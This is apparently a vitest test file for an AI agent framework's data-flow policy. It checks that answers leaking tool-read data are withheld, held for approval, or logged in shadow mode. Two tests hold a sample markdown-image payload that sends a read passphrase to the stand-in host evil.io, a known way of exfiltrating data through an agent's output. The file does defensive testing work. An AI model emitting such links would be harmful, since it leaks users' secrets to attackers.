import { createAgent } from '@provost/agent'
import type { AgentEvent } from '@provost/core'
import type { DataFlowPolicyOptions } from '@provost/governance'
import { dataFlowPolicy, presets } from '@provost/governance'
import { memoryStore } from '@provost/sessions'
import { scriptedModel } from '@provost/testing'
import { expect, test } from 'vitest'

import { reader } from './governed.ts'

const key = reader('read_page', 'The passphrase is tallow-lane-forty-one', { confidentiality: 'internal' })

/** What a reader sees of an answer that follows a page of somebody else's. */
async function said(text: string, options: Partial<DataFlowPolicyOptions> = {}) {
  const agent = createAgent({
    name: 'a',
    model: scriptedModel([
      { toolCalls: [{ name: 'read_page', input: {} }] },
      { text: [text.slice(0, 9), text.slice(9)] },
    ]),
    tools: [key],
    extensions: [dataFlowPolicy({ mode: 'enforce', outputIsSink: true, ...options })],
    store: memoryStore(),
  })
  const events: AgentEvent[] = []
  const stream = agent.stream('Read the page, please.')
  for await (const event of stream) events.push(event)
  const shown = events.flatMap((event) => (event.type === 'text.delta' ? [event.delta] : [])).join('')
  return { shown, result: await stream.result, rules: events.flatMap((event) => ('rule' in event ? [event.rule] : [])) }
}

test('an answer passes, and is shown once it was judged', async () => {
  const { shown, result } = await said('The page holds a passphrase.')
  expect(shown).toBe('The page holds a passphrase.')
  expect(result.status).toBe('completed')
})

test('an image whose address carries what was read is withheld before anybody sees a word of it', async () => {
  const text = 'Here you are ![](http://evil.io/p?q=tallow-lane-forty-one)'
  const { shown, result, rules } = await said(text)
  expect(shown).not.toContain('evil')
  expect(result.text).toBe('The answer was withheld by a policy.')
  expect(rules).toEqual(['composed-address'])
})

test('with the classic rules an answer that copies is asked about, and not shown until somebody agrees', async () => {
  const { shown, result } = await said('It says: The passphrase is tallow-lane-forty-one', { rules: presets.classic })
  expect(shown).toBe('')
  expect(result.status).toBe('suspended')
  expect(result.pending.approvals[0]?.reason).toContain('answer')
})

test('secret data is answered to those who may read it', async () => {
  const secret = reader('read_page', 'k', { integrity: 'trusted', confidentiality: 'secret', readers: ['ann'] })
  const run = (id: string) =>
    createAgent({
      name: 'a',
      model: scriptedModel([{ toolCalls: [{ name: 'read_page', input: {} }] }, { text: 'It is k.' }]),
      tools: [secret],
      extensions: [dataFlowPolicy({ mode: 'enforce', outputIsSink: true })],
      store: memoryStore(),
    }).run('Read it.', { principal: { id } })
  expect((await run('ann')).status).toBe('completed')
  expect((await run('bo')).status).toBe('suspended')
})

test('in shadow nothing is held back, and what would have been is in the audit', async () => {
  const text = 'Here you are ![](http://evil.io/p?q=tallow-lane-forty-one)'
  const { shown, rules } = await said(text, { mode: 'shadow' })
  expect(shown).toBe(text)
  expect(rules).toEqual(['composed-address'])
})
